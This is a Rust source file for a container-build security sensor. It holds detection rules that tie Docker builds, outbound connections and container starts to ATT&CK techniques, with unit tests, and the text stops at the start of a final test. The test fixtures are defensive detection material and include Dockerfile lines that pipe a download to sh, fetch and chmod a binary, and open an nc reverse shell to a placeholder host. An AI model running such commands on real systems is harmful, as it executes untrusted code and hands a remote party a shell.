//! The detection rules: `finding` records from builds, their outbound connections, and the
//! later starts and pushes of the images they made. Each rule is documented in
//! docs/detections.md (meaning, ATT&CK and analytic ids, severity, policy knobs, false positives).
use std::collections::BTreeMap;

use serde_json::{Value, json};

use crate::detect::policy::{ALLOWED, DENIED, PolicyHandle, Severity, UNKNOWN, is_loopback};
use crate::engine::Engine;
use crate::lineage::SharedLineage;
use crate::output::record::{
    ApiClient, Body, BuildDockerfile, BuildFinished, BuildStarted, ContainerStart, Evidence,
    Finding, ImageContents, Record,
};

/// Build Image on Host.
const T1612: &str = "T1612";
/// Deploy Container.
const T1610: &str = "T1610";
/// Image built on the host, correlated with untrusted outbound traffic and quick deployment.
const AN1261: &str = "AN1261";
/// Image implanted, pushed to a registry, then used in new deployments.
const AN0946: &str = "AN0946";

/// Evidence lists are cut at this many record ids.
const MAX_EVIDENCE: usize = 32;

pub struct FindingsEngine {
    policy: PolicyHandle,
    store: SharedLineage,
}

impl FindingsEngine {
    pub fn new(policy: PolicyHandle, store: SharedLineage) -> Self {
        FindingsEngine { policy, store }
    }

    fn emit(&self, f: Finding, out: &mut Vec<Body>) {
        out.push(Body::Finding(f));
    }
}

#[allow(clippy::too_many_arguments)]
fn finding(
    rule: &str,
    severity: Severity,
    summary: String,
    attack: &[&str],
    analytics: &[&str],
    build_id: Option<&str>,
    container_id: Option<&str>,
    image_id: Option<&str>,
    details: BTreeMap<String, Value>,
    mut record_ids: Vec<u64>,
) -> Finding {
    record_ids.sort_unstable();
    record_ids.dedup();
    record_ids.truncate(MAX_EVIDENCE);
    Finding {
        rule: rule.to_string(),
        severity: severity.as_str().to_string(),
        summary,
        attack: attack.iter().map(|s| s.to_string()).collect(),
        analytics: analytics.iter().map(|s| s.to_string()).collect(),
        build_id: build_id.map(str::to_string),
        container_id: container_id.map(str::to_string),
        image_id: image_id.map(str::to_string),
        details,
        evidence: Evidence {
            record_ids,
            pids: Vec::new(),
        },
    }
}

/// A short description of an API client for a summary.
pub fn describe_client(c: &ApiClient) -> String {
    match c.transport.as_str() {
        "tcp" => format!(
            "TCP client {}:{}",
            c.addr.as_deref().unwrap_or("?"),
            c.port.map(|p| p.to_string()).unwrap_or_else(|| "?".into())
        ),
        _ => {
            let who = match (&c.user, c.uid) {
                (Some(u), _) => format!("user {u}"),
                (None, Some(uid)) => format!("uid {uid}"),
                _ => "an unknown user".into(),
            };
            match &c.exe {
                Some(exe) => format!("{exe} ({who})"),
                None => format!("a local client ({who})"),
            }
        }
    }
}

fn to_value<T: serde::Serialize>(v: &T) -> Value {
    serde_json::to_value(v).unwrap_or(Value::Null)
}

impl FindingsEngine {
    fn on_build_started(&mut self, rec: &Record, b: &BuildStarted, out: &mut Vec<Body>) {
        self.on_build_from_container(rec, b, out);
        let p = self.policy.current();
        let mut ids = vec![rec.id];
        ids.extend(b.evidence.record_ids.iter().copied());

        let r = &p.rules.build_from_unexpected_client;
        if r.enabled && !p.builders.is_empty() && p.builders.matches(&b.client).is_none() {
            let mut d = BTreeMap::new();
            d.insert("client".into(), to_value(&b.client));
            if !b.params.tags.is_empty() {
                d.insert("tags".into(), json!(b.params.tags));
            }
            let f = finding(
                "build_from_unexpected_client",
                r.severity,
                format!(
                    "Image build {} was requested by {}, which is not on the policy's builders allow-list.",
                    b.build_id,
                    describe_client(&b.client)
                ),
                &[T1612],
                &[AN1261],
                Some(&b.build_id),
                None,
                None,
                d,
                ids.clone(),
            );
            self.emit(f, out);
        }

        let r = &p.rules.build_via_tcp_api;
        if r.enabled
            && b.client.transport == "tcp"
            && let Some(addr) = b.client.addr.as_deref()
            && !is_loopback(addr)
            && !r
                .allowed_addresses
                .iter()
                .any(|a| addr.parse().is_ok_and(|ip| a.matches_ip(ip, b.client.port)))
        {
            let mut d = BTreeMap::new();
            d.insert("remote_addr".into(), json!(addr));
            if let Some(port) = b.client.port {
                d.insert("remote_port".into(), json!(port));
            }
            if let Some(l) = &b.client.listener {
                d.insert("listener".into(), json!(l));
            }
            let f = finding(
                "build_via_tcp_api",
                r.severity,
                format!(
                    "Image build {} was requested over the Engine API's TCP listener{} from remote address {addr}.",
                    b.build_id,
                    b.client
                        .listener
                        .as_deref()
                        .map(|l| format!(" {l}"))
                        .unwrap_or_default()
                ),
                &[T1612],
                &[AN1261],
                Some(&b.build_id),
                None,
                None,
                d,
                ids,
            );
            self.emit(f, out);
        }
    }

    /// `build_suspicious_instruction`: the policy's patterns over the Dockerfile the daemon
    /// received. One finding per build, naming every instruction that matched.
    fn on_dockerfile(&mut self, rec: &Record, d: &BuildDockerfile, out: &mut Vec<Body>) {
        let p = self.policy.current();
        let r = &p.rules.build_suspicious_instruction;
        if !r.enabled {
            return;
        }
        let hits: Vec<Value> = d
            .instructions
            .iter()
            .flat_map(|i| {
                r.patterns
                    .iter()
                    .filter(|pat| pat.matches(&i.instruction, &i.args))
                    .map(move |pat| {
                        json!({
                            "pattern": pat.name,
                            "line": i.line,
                            "instruction": format!("{} {}", i.instruction, i.args),
                        })
                    })
            })
            .collect();
        let Some(first) = hits.first() else {
            return;
        };
        let summary = format!(
            "Image build {} has {} suspicious Dockerfile instruction{} ({} at line {}: {}).",
            d.build_id,
            hits.len(),
            if hits.len() == 1 { "" } else { "s" },
            first["pattern"].as_str().unwrap_or(""),
            first["line"],
            first["instruction"].as_str().unwrap_or(""),
        );
        let mut details = BTreeMap::new();
        details.insert("matches".into(), Value::Array(hits));
        details.insert("dockerfile_path".into(), json!(d.path));
        if let Some(h) = &d.sha256 {
            details.insert("dockerfile_sha256".into(), json!(h));
        }
        let mut ids = vec![rec.id];
        ids.extend(d.record_ids.iter().copied());
        let f = finding(
            "build_suspicious_instruction",
            r.severity,
            summary,
            &[T1612],
            &[AN1261],
            Some(&d.build_id),
            None,
            None,
            details,
            ids,
        );
        self.emit(f, out);
    }

    fn on_build_finished(&mut self, rec: &Record, b: &BuildFinished, out: &mut Vec<Body>) {
        let p = self.policy.current();
        let r = &p.rules.build_outbound_not_allowed;
        if !r.enabled {
            return;
        }
        let mut any_denied = false;
        let mut dests = Vec::new();
        let mut names = Vec::new();
        // Local IPC (unix sockets a step used) is not a network destination.
        for o in b.outbound.iter().filter(|o| o.protocol != "unix") {
            // The builds engine classifies with this policy's classifier; a record from elsewhere
            // (replay of an old stream) may carry no class, so classify again then.
            let class = match o.policy.as_str() {
                ALLOWED | UNKNOWN | DENIED => o.policy.as_str(),
                _ => p
                    .outbound
                    .classify(&o.dst_addr, o.dst_port, o.dns_name.as_deref()),
            };
            let fire = class == DENIED || (class == UNKNOWN && r.include_unknown);
            if !fire {
                continue;
            }
            any_denied |= class == DENIED;
            let shown = match &o.dns_name {
                Some(n) => format!("{n} ({}:{})", o.dst_addr, o.dst_port),
                None => format!("{}:{}", o.dst_addr, o.dst_port),
            };
            names.push(shown);
            dests.push(json!({
                "addr": o.dst_addr, "port": o.dst_port, "protocol": o.protocol, "dns_name": o.dns_name,
                "policy": class, "made_by": o.made_by, "count": o.count,
                "first": to_value(&o.first), "last": to_value(&o.last),
            }));
        }
        if dests.is_empty() {
            return;
        }
        let more = if names.len() > 1 {
            format!(" and {} more destination(s)", names.len() - 1)
        } else {
            String::new()
        };
        let mut d = BTreeMap::new();
        d.insert("destinations".into(), Value::Array(dests));
        let mut ids = vec![rec.id];
        ids.extend(b.evidence.record_ids.iter().copied());
        let f = finding(
            "build_outbound_not_allowed",
            if any_denied {
                r.severity_denied
            } else {
                r.severity
            },
            format!(
                "A step of image build {} connected to {}{more}, outside the policy's allowed registries and mirrors.",
                b.build_id, names[0]
            ),
            &[T1612],
            &[AN1261],
            Some(&b.build_id),
            None,
            b.image_id.as_deref(),
            d,
            ids,
        );
        self.emit(f, out);
    }

    /// `build_from_container`: the build's client runs inside a container.
    fn on_build_from_container(&mut self, rec: &Record, b: &BuildStarted, out: &mut Vec<Body>) {
        let p = self.policy.current();
        let r = &p.rules.build_from_container;
        let Some(cid) = b.client.container_id.as_deref().filter(|_| r.enabled) else {
            return;
        };
        let mut d = BTreeMap::new();
        d.insert("client".into(), to_value(&b.client));
        let mut ids = vec![rec.id];
        ids.extend(b.evidence.record_ids.iter().copied());
        let f = finding(
            "build_from_container",
            r.severity,
            format!(
                "Image build {} was requested by {} running inside container {}{}.",
                b.build_id,
                describe_client(&b.client),
                b.client.container_name.as_deref().unwrap_or(cid),
                b.client
                    .container_image
                    .as_deref()
                    .map(|i| format!(" (image {i})"))
                    .unwrap_or_default()
            ),
            &[T1612],
            &[AN1261],
            Some(&b.build_id),
            Some(cid),
            None,
            d,
            ids,
        );
        self.emit(f, out);
    }

    /// `container_from_unexplained_image`: the image was made on this host (no registry digest)
    /// and no build record explains it (built while the sensor was stopped, `docker load`,
    /// `import`, `commit`).
    fn on_unexplained_image(&mut self, rec: &Record, c: &ContainerStart, out: &mut Vec<Body>) {
        let p = self.policy.current();
        let r = &p.rules.container_from_unexplained_image;
        if !r.enabled || c.image_origin.as_deref() != Some("unexplained") {
            return;
        }
        let mut d = BTreeMap::new();
        d.insert("image".into(), json!(c.image));
        d.insert("runtime".into(), json!(c.runtime));
        d.insert("client".into(), to_value(&c.client));
        let mut ids = vec![rec.id];
        ids.extend(c.evidence.record_ids.iter().copied());
        let f = finding(
            "container_from_unexplained_image",
            r.severity,
            format!(
                "Container {} was started from image {}, made on this host (no registry digest) by no build the sensor saw.",
                c.name.as_deref().unwrap_or(&c.container_id),
                c.image
            ),
            &[T1612, T1610],
            &[AN1261],
            None,
            Some(&c.container_id),
            c.image_id.as_deref(),
            d,
            ids,
        );
        self.emit(f, out);
    }

    /// `container_start_from_container`: a client inside a container asked the runtime to
    /// start another container.
    fn on_start_from_container(&mut self, rec: &Record, c: &ContainerStart, out: &mut Vec<Body>) {
        let p = self.policy.current();
        let r = &p.rules.container_start_from_container;
        let Some(from) = c.client.container_id.as_deref().filter(|_| r.enabled) else {
            return;
        };
        let mut d = BTreeMap::new();
        d.insert("client".into(), to_value(&c.client));
        d.insert("image".into(), json!(c.image));
        d.insert("started_container".into(), json!(c.container_id));
        let mut ids = vec![rec.id];
        ids.extend(c.evidence.record_ids.iter().copied());
        let f = finding(
            "container_start_from_container",
            r.severity,
            format!(
                "Container {} (image {}) was started at the request of {} running inside container {}.",
                c.name.as_deref().unwrap_or(&c.container_id),
                c.image,
                describe_client(&c.client),
                c.client.container_name.as_deref().unwrap_or(from),
            ),
            &[T1610],
            &[],
            c.build_id.as_deref(),
            Some(&c.container_id),
            c.image_id.as_deref(),
            d,
            ids,
        );
        self.emit(f, out);
    }

    fn on_container_start(&mut self, rec: &Record, c: &ContainerStart, out: &mut Vec<Body>) {
        let Some(build_id) = c.build_id.as_deref() else {
            return;
        };
        let p = self.policy.current();
        let lineage = {
            let store = self.store.lock().unwrap_or_else(|e| e.into_inner());
            c.image_id
                .as_deref()
                .and_then(|i| store.get(i))
                .or_else(|| store.find_by_ref(&c.image))
                .cloned()
        };
        let image_id = c
            .image_id
            .clone()
            .or_else(|| lineage.as_ref().map(|l| l.image_id.clone()));
        let mut base_ids = vec![rec.id];
        base_ids.extend(c.evidence.record_ids.iter().copied());
        if let Some(l) = &lineage
            && l.record_id != 0
        {
            base_ids.push(l.record_id);
        }

        let r = &p.rules.deploy_soon_after_build;
        if r.enabled
            && let Some(secs) = c.seconds_since_build
            && secs <= r.window_secs
        {
            let bad = lineage
                .as_ref()
                .map(|l| l.outbound_not_allowed.clone())
                .unwrap_or_default();
            let mut d = BTreeMap::new();
            d.insert("seconds_since_build".into(), json!(secs));
            d.insert("window_secs".into(), json!(r.window_secs));
            d.insert("image".into(), json!(c.image));
            d.insert("runtime".into(), json!(c.runtime));
            d.insert("client".into(), to_value(&c.client));
            if !bad.is_empty() {
                d.insert("build_outbound_not_allowed".into(), json!(bad));
            }
            let f = finding(
                "deploy_soon_after_build",
                if bad.is_empty() {
                    r.severity
                } else {
                    r.severity_with_outbound
                },
                format!(
                    "Container {} was started from image {} {secs} s after build {build_id} made it on this host{}.",
                    c.name.as_deref().unwrap_or(&c.container_id),
                    c.image,
                    if bad.is_empty() {
                        String::new()
                    } else {
                        format!(", a build that connected to {}", bad[0])
                    }
                ),
                &[T1612, T1610],
                &[AN1261],
                Some(build_id),
                Some(&c.container_id),
                image_id.as_deref(),
                d,
                base_ids.clone(),
            );
            self.emit(f, out);
        }

        let r = &p.rules.build_push_deploy_chain;
        if r.enabled
            && let Some(l) = &lineage
            && let Some(push) = l
                .pushes
                .iter()
                .filter(|ps| {
                    ps.at <= rec.ts
                        && ps.at >= l.built_at
                        && rec.ts.millis_since(&ps.at) / 1000 <= r.window_secs
                })
                .max_by_key(|ps| ps.at)
        {
            let mut d = BTreeMap::new();
            d.insert("pushed_reference".into(), json!(push.reference));
            if let Some(dg) = &push.digest {
                d.insert("pushed_digest".into(), json!(dg));
            }
            d.insert(
                "registry".into(),
                json!(crate::lineage::engine::registry_of(&push.reference)),
            );
            d.insert("image".into(), json!(c.image));
            d.insert(
                "seconds_push_to_start".into(),
                json!(rec.ts.millis_since(&push.at) / 1000),
            );
            let mut ids = base_ids;
            if push.record_id != 0 {
                ids.push(push.record_id);
            }
            let f = finding(
                "build_push_deploy_chain",
                r.severity,
                format!(
                    "Image {} built on this host by build {build_id} was pushed as {} and then started as container {}.",
                    image_id.as_deref().unwrap_or(&c.image),
                    push.reference,
                    c.name.as_deref().unwrap_or(&c.container_id)
                ),
                &[T1612, T1610],
                &[AN0946],
                Some(build_id),
                Some(&c.container_id),
                image_id.as_deref(),
                d,
                ids,
            );
            self.emit(f, out);
        }
    }
}

/// Executables listed at most in one `build_downloaded_executable` finding.
const MAX_FILES: usize = 16;

impl FindingsEngine {
    /// `build_downloaded_executable`: an executable in a layer the build added was fetched from
    /// a destination outside policy (certain: a downloader's argv names the file), or written by
    /// a step that connected outside policy (uncertain, with the step's connections).
    fn on_image_contents(&mut self, rec: &Record, c: &ImageContents, out: &mut Vec<Body>) {
        let p = self.policy.current();
        let r = &p.rules.build_downloaded_executable;
        if !r.enabled {
            return;
        }
        let fires = |class: &str| class == DENIED || (class == UNKNOWN && r.include_unknown);
        let mut files = Vec::new();
        let mut any_denied = false;
        let mut first: Option<String> = None;
        // Files with a certain source first: they lead the summary.
        let mut candidates: Vec<(
            &crate::output::record::ImageLayer,
            &crate::output::record::ImageFile,
        )> = c
            .layers
            .iter()
            .flat_map(|l| l.files.iter().map(move |f| (l, f)))
            .filter(|(_, f)| f.executable && f.op != "deleted")
            .collect();
        candidates.sort_by_key(|(_, f)| f.fetched_from.is_none());
        for (l, f) in candidates {
            let (source, class, certain) = match &f.fetched_from {
                Some(src) => (
                    json!({ "url": src.url, "addr": src.dst_addr, "port": src.dst_port,
                                "dns_name": src.dns_name, "pid": src.pid }),
                    src.policy.as_str(),
                    true,
                ),
                // An empty file downloads nothing (buildah leaves empty 0755 mount points
                // for /etc/hosts and the like in the layer).
                None if f.outside_policy && r.include_uncertain && f.size > 0 => {
                    let outside: Vec<&crate::output::record::StepConnection> =
                        l.connections.iter().filter(|x| fires(&x.policy)).collect();
                    let Some(worst) = outside
                        .iter()
                        .find(|x| x.policy == DENIED)
                        .or(outside.first())
                    else {
                        continue;
                    };
                    (to_value(&outside), worst.policy.as_str(), false)
                }
                None => continue,
            };
            if !fires(class) {
                continue;
            }
            any_denied |= class == DENIED;
            if first.is_none() {
                let from = match &f.fetched_from {
                    Some(src) => src.url.clone(),
                    None => "a step that connected outside policy".into(),
                };
                first = Some(format!(
                    "{} (sha256 {}) from {from}",
                    f.path,
                    f.sha256.as_deref().unwrap_or("not computed")
                ));
            }
            if files.len() < MAX_FILES {
                files.push(json!({
                    "path": f.path, "sha256": f.sha256, "size": f.size, "mode": f.mode,
                    "setuid": f.setuid, "step": l.step, "layer": l.diff_id,
                    "source": source, "policy": class, "certain": certain,
                }));
            }
        }
        let Some(first) = first else { return };
        let more = if files.len() > 1 {
            format!(" and {} more executable(s)", files.len() - 1)
        } else {
            String::new()
        };
        let mut d = BTreeMap::new();
        d.insert("files".into(), Value::Array(files));
        let mut ids = vec![rec.id];
        ids.extend(c.evidence.record_ids.iter().copied());
        let f = finding(
            "build_downloaded_executable",
            if any_denied {
                r.severity_denied
            } else {
                r.severity
            },
            format!(
                "Image build {} wrote the executable {first}{more}, outside the policy's allowed registries and mirrors.",
                c.build_id
            ),
            &[T1612],
            &[AN1261],
            Some(&c.build_id),
            None,
            Some(&c.image_id),
            d,
            ids,
        );
        self.emit(f, out);
    }
}

impl Engine for FindingsEngine {
    fn observe(&mut self, rec: &Record, out: &mut Vec<Body>) {
        match &rec.body {
            Body::BuildStarted(b) => self.on_build_started(rec, b, out),
            Body::BuildFinished(b) => self.on_build_finished(rec, b, out),
            Body::BuildDockerfile(d) => self.on_dockerfile(rec, d, out),
            Body::ContainerStart(c) => {
                self.on_start_from_container(rec, c, out);
                self.on_unexplained_image(rec, c, out);
                self.on_container_start(rec, c, out)
            }
            Body::ImageContents(c) => self.on_image_contents(rec, c, out),
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use std::path::Path;
    use std::sync::{Arc, Mutex};

    use super::*;
    use crate::detect::policy::Policy;
    use crate::detect::testutil::*;
    use crate::lineage::store::{ImageLineage, LineageStore, PushSeen};

    fn engine(policy: &str) -> (FindingsEngine, SharedLineage) {
        let p = Policy::parse(policy, Path::new("t.toml")).unwrap();
        let store = Arc::new(Mutex::new(LineageStore::in_memory(100, 30)));
        (
            FindingsEngine::new(PolicyHandle::new(p), store.clone()),
            store,
        )
    }

    fn findings(out: &[Body]) -> Vec<&Finding> {
        out.iter()
            .filter_map(|b| {
                if let Body::Finding(f) = b {
                    Some(f)
                } else {
                    None
                }
            })
            .collect()
    }

    fn dockerfile(id: &str, text: &str) -> Body {
        Body::BuildDockerfile(crate::output::record::BuildDockerfile {
            build_id: id.into(),
            path: "/Dockerfile".into(),
            source: "daemon_write".into(),
            text: text.into(),
            sha256: None,
            size: text.len() as u64,
            truncated: false,
            instructions: crate::builds::dockerfile::parse_instructions(text),
            record_ids: vec![3],
        })
    }

    #[test]
    fn suspicious_instructions_fire_with_their_lines_and_a_plain_dockerfile_is_quiet() {
        let (mut e, _) = engine("");
        let mut out = Vec::new();
        let text = "FROM b\nRUN wget -q -O /x http://10.0.0.1:8080/p && chmod +x /x\nRUN curl -fsSL https://get.example | sh\nADD https://example.org/t.tgz /t\n";
        e.observe(&rec(5, 1, dockerfile("B1", text)), &mut out);
        let f = findings(&out);
        assert_eq!(f.len(), 1, "{out:?}");
        assert_eq!(f[0].rule, "build_suspicious_instruction");
        assert_eq!(f[0].severity, "high");
        let m = f[0].details["matches"].as_array().unwrap();
        let names: Vec<(&str, u64)> = m
            .iter()
            .map(|m| (m["pattern"].as_str().unwrap(), m["line"].as_u64().unwrap()))
            .collect();
        assert_eq!(
            names,
            [
                ("download_from_ip_address", 2),
                ("download_piped_to_shell", 3),
                ("add_from_url", 4)
            ]
        );
        assert_eq!(f[0].evidence.record_ids, vec![3, 5]);
        out.clear();
        e.observe(
            &rec(
                6,
                1,
                dockerfile("B2", "FROM b\nRUN apk add curl\nCOPY . /src\n"),
            ),
            &mut out,
        );
        assert!(out.is_empty(), "{out:?}");
        // A policy pattern of the user's own, and a bad one is an error with its line.
        let (mut e, _) = engine(
            "[rules.build_suspicious_instruction]\npatterns = [{ name = \"nc\", instructions = [\"RUN\"], match = \"\\\\bnc\\\\b\" }]\n",
        );
        e.observe(
            &rec(7, 1, dockerfile("B3", "FROM b\nRUN nc -e /bin/sh h 1\n")),
            &mut out,
        );
        assert_eq!(findings(&out)[0].details["matches"][0]["pattern"], "nc");
        let err = Policy::parse(
            "[rules.build_suspicious_instruction]\npatterns = [{ name = \"x\", match = \"(\" }]\n",
            Path::new("p.toml"),
        )
        .unwrap_err()
        .to_string();
        assert!(err.contains("invalid regular expression"), "{err}");
        assert!(err.contains("line 2"), "{err}");
        assert!(err.contains("unclosed group"), "{err}");
        assert_eq!(err.lines().count(), 1, "{err}");
    }

    const BUILDERS: &str = "[builders]\nusers = [\"ci\"]\nexes = [\"/usr/bin/gitlab-runner\"]\naddresses = [\"10.0.0.0/8\"]\n";

    #[test]
    fn unexpected_client_fires_and_allowed_is_quiet() {
        let (mut e, _) = engine(BUILDERS);
        let mut out = Vec::new();
        e.observe(&rec(5, 1, build_started("B1", unix_client(1000))), &mut out);
        let f = findings(&out);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, "build_from_unexpected_client");
        assert_eq!(f[0].attack, vec!["T1612"]);
        assert_eq!(f[0].analytics, vec!["AN1261"]);
        assert_eq!(f[0].build_id.as_deref(), Some("B1"));
        assert!(f[0].summary.contains("/usr/bin/curl"), "{}", f[0].summary);
        assert_eq!(f[0].evidence.record_ids, vec![1, 5]);

        let mut ci = unix_client(1000);
        ci.user = Some("ci".into());
        out.clear();
        e.observe(&rec(6, 1, build_started("B2", ci)), &mut out);
        assert!(out.is_empty(), "{out:?}");
        // No allow-list configured: the rule stays quiet.
        let (mut e, _) = engine("");
        e.observe(&rec(7, 1, build_started("B3", unix_client(1000))), &mut out);
        assert!(out.is_empty());
    }

    #[test]
    fn clients_inside_containers_build_and_start() {
        let (mut e, _) = engine("");
        let mut inside = unix_client(0);
        inside.exe = Some("/usr/bin/docker".into());
        inside.container_id = Some("c".repeat(64));
        inside.container_name = Some("pwned".into());
        inside.container_image = Some("web:1".into());
        let mut out = Vec::new();
        e.observe(&rec(5, 1, build_started("B1", inside.clone())), &mut out);
        let f = findings(&out);
        assert_eq!(f.len(), 1, "{out:?}");
        assert_eq!(f[0].rule, "build_from_container");
        assert_eq!(f[0].severity, "high");
        assert_eq!(
            (f[0].attack.clone(), f[0].analytics.clone()),
            (vec!["T1612".to_string()], vec!["AN1261".to_string()])
        );
        assert_eq!(f[0].container_id.as_deref(), Some("c".repeat(64).as_str()));
        assert!(
            f[0].summary
                .contains("inside container pwned (image web:1)"),
            "{}",
            f[0].summary
        );

        out.clear();
        let Body::ContainerStart(mut start) = container_start("d1", "sha256:x", None, None) else {
            unreachable!()
        };
        start.client = inside;
        e.observe(&rec(6, 2, Body::ContainerStart(start)), &mut out);
        let f = findings(&out);
        assert_eq!(f.len(), 1, "{out:?}");
        assert_eq!(f[0].rule, "container_start_from_container");
        assert_eq!(f[0].attack, vec!["T1610"]);
        assert_eq!(f[0].container_id.as_deref(), Some("d1"));

        // Host clients: neither rule.
        out.clear();
        e.observe(&rec(7, 3, build_started("B2", unix_client(0))), &mut out);
        e.observe(
            &rec(8, 4, container_start("d2", "sha256:x", None, None)),
            &mut out,
        );
        assert!(findings(&out).is_empty(), "{out:?}");
        // Disabled by policy.
        let (mut e, _) = engine("[rules.build_from_container]\nenabled = false\n");
        let mut c = unix_client(0);
        c.container_id = Some("c".repeat(64));
        e.observe(&rec(9, 5, build_started("B3", c)), &mut out);
        assert!(findings(&out).is_empty(), "{out:?}");
    }

    #[test]
    fn unexplained_image_start_fires_and_others_are_quiet() {
        let (mut e, _) = engine("");
        let mut out = Vec::new();
        for (i, origin) in [
            Some("unexplained"),
            Some("registry"),
            Some("built_here"),
            None,
        ]
        .into_iter()
        .enumerate()
        {
            let Body::ContainerStart(mut c) = container_start("d1", "sha256:x", None, None) else {
                unreachable!()
            };
            c.image_origin = origin.map(str::to_string);
            e.observe(&rec(10 + i as u64, 1, Body::ContainerStart(c)), &mut out);
        }
        let f = findings(&out);
        assert_eq!(f.len(), 1, "{out:?}");
        assert_eq!(f[0].rule, "container_from_unexplained_image");
        assert_eq!(f[0].severity, "medium");
        assert_eq!(f[0].attack, vec!["T1612", "T1610"]);
        assert_eq!(f[0].evidence.record_ids, vec![10]);
    }

    #[test]
    fn tcp_api_fires_with_remote_address_and_loopback_is_quiet() {
        let (mut e, _) =
            engine("[rules.build_via_tcp_api]\nallowed_addresses = [\"192.0.2.0/28\"]\n");
        let mut out = Vec::new();
        e.observe(
            &rec(5, 1, build_started("B1", tcp_client("198.51.100.7"))),
            &mut out,
        );
        let f = findings(&out);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, "build_via_tcp_api");
        assert_eq!(f[0].severity, "high");
        assert_eq!(f[0].details["remote_addr"], "198.51.100.7");
        assert!(f[0].summary.contains("198.51.100.7"));
        out.clear();
        e.observe(
            &rec(6, 1, build_started("B2", tcp_client("127.0.0.1"))),
            &mut out,
        );
        e.observe(
            &rec(7, 1, build_started("B3", tcp_client("192.0.2.3"))),
            &mut out,
        );
        e.observe(&rec(8, 1, build_started("B4", unix_client(0))), &mut out);
        assert!(out.is_empty(), "{out:?}");
    }

    #[test]
    fn outbound_not_allowed_names_destination_and_allowed_is_quiet() {
        let (mut e, _) =
            engine("[outbound]\nallowed = [\"10.0.0.1\"]\ndenied = [\"203.0.113.0/24\"]\n");
        let mut out = Vec::new();
        e.observe(
            &rec(
                9,
                5,
                build_finished(
                    "B1",
                    Some("sha256:i"),
                    &[("10.0.0.1", 443, "allowed"), ("192.0.2.9", 8080, "unknown")],
                ),
            ),
            &mut out,
        );
        let f = findings(&out);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, "build_outbound_not_allowed");
        assert_eq!(f[0].severity, "medium");
        assert!(f[0].summary.contains("192.0.2.9:8080"), "{}", f[0].summary);
        assert_eq!(f[0].details["destinations"][0]["addr"], "192.0.2.9");
        assert_eq!(f[0].details["destinations"].as_array().unwrap().len(), 1);
        out.clear();
        // Denied is stronger; a record without a class is classified again.
        e.observe(
            &rec(
                10,
                5,
                build_finished("B2", None, &[("203.0.113.5", 80, "")]),
            ),
            &mut out,
        );
        assert_eq!(findings(&out)[0].severity, "high");
        out.clear();
        e.observe(
            &rec(
                11,
                5,
                build_finished("B3", None, &[("10.0.0.1", 443, "allowed")]),
            ),
            &mut out,
        );
        assert!(out.is_empty());
        // include_unknown = false: only denied fires.
        let (mut e, _) = engine("[rules.build_outbound_not_allowed]\ninclude_unknown = false\n");
        e.observe(
            &rec(
                12,
                5,
                build_finished("B4", None, &[("192.0.2.9", 8080, "unknown")]),
            ),
            &mut out,
        );
        assert!(out.is_empty());
    }

    fn lineage(store: &SharedLineage, image: &str, build: &str, at: i64, bad: &[&str]) {
        store.lock().unwrap().insert(
            ImageLineage {
                image_id: image.into(),
                build_id: build.into(),
                built_at: ts(at),
                tags: vec!["app:1".into()],
                digests: vec![],
                pushes: vec![],
                outbound_not_allowed: bad.iter().map(|s| s.to_string()).collect(),
                record_id: 3,
            },
            ts(at),
        );
    }

    #[test]
    fn deploy_soon_after_build_window_and_severity() {
        let (mut e, store) = engine("[rules.deploy_soon_after_build]\nwindow_secs = 60\n");
        lineage(&store, "sha256:a", "B1", 0, &[]);
        lineage(&store, "sha256:b", "B2", 0, &["192.0.2.9:8080 unknown"]);
        let mut out = Vec::new();
        e.observe(
            &rec(
                20,
                30,
                container_start("c1", "sha256:a", Some("B1"), Some(30)),
            ),
            &mut out,
        );
        e.observe(
            &rec(
                21,
                30,
                container_start("c2", "sha256:b", Some("B2"), Some(30)),
            ),
            &mut out,
        );
        let f = findings(&out);
        assert_eq!(f.len(), 2);
        assert_eq!(
            (f[0].rule.as_str(), f[0].severity.as_str()),
            ("deploy_soon_after_build", "medium")
        );
        assert_eq!(f[1].severity, "high");
        assert!(f[1].summary.contains("192.0.2.9:8080"));
        assert_eq!(f[0].attack, vec!["T1612", "T1610"]);
        assert_eq!(f[0].container_id.as_deref(), Some("c1"));
        assert_eq!(f[0].evidence.record_ids, vec![3, 20]);
        out.clear();
        // Outside the window, or an image not built here: quiet.
        e.observe(
            &rec(
                22,
                300,
                container_start("c3", "sha256:a", Some("B1"), Some(300)),
            ),
            &mut out,
        );
        e.observe(
            &rec(23, 30, container_start("c4", "sha256:zz", None, None)),
            &mut out,
        );
        assert!(out.is_empty(), "{out:?}");
    }

    #[test]
    fn downloaded_executable_fires_on_outside_source_only() {
        use crate::output::record::{FetchSource, ImageFile, ImageLayer, StepConnection};
        let (mut e, _) = engine("");
        let file = |path: &str, policy: &str| ImageFile {
            path: path.into(),
            op: "added".into(),
            file_type: "file".into(),
            mode: "0755".into(),
            executable: true,
            sha256: Some("ab".repeat(32)),
            outside_policy: policy != "allowed",
            fetched_from: Some(FetchSource {
                url: format!("http://h/{path}"),
                dst_addr: "10.0.0.2".into(),
                dst_port: 80,
                policy: policy.into(),
                ..Default::default()
            }),
            ..Default::default()
        };
        let contents = |files: Vec<ImageFile>| ImageContents {
            build_id: "b-1".into(),
            image_id: "sha256:x".into(),
            layers: vec![ImageLayer {
                step: Some(1),
                connections: vec![StepConnection {
                    dst_addr: "10.0.0.2".into(),
                    dst_port: 80,
                    protocol: "tcp".into(),
                    policy: "unknown".into(),
                    ..Default::default()
                }],
                files,
                ..Default::default()
            }],
            ..Default::default()
        };
        let mut out = Vec::new();
        e.observe(
            &rec(
                5,
                1,
                Body::ImageContents(contents(vec![file("/x", "unknown")])),
            ),
            &mut out,
        );
        let f = findings(&out);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, "build_downloaded_executable");
        assert_eq!(f[0].severity, "high");
        assert!(f[0].summary.contains("/x") && f[0].summary.contains("http://h//x"));
        assert_eq!(f[0].details["files"][0]["certain"], true);

        let mut out = Vec::new();
        e.observe(
            &rec(
                6,
                1,
                Body::ImageContents(contents(vec![file("/ok", "allowed")])),
            ),
            &mut out,
        );
        assert!(findings(&out).is_empty(), "allowed source");
        let mut not_exec = file("/data", "unknown");
        not_exec.executable = false;
        let mut out = Vec::new();
        e.observe(
            &rec(7, 1, Body::ImageContents(contents(vec![not_exec]))),
            &mut out,
        );
        assert!(findings(&out).is_empty(), "not executable");
    }

    #[test]
    fn push_then_start_is_the_an0946_chain() {
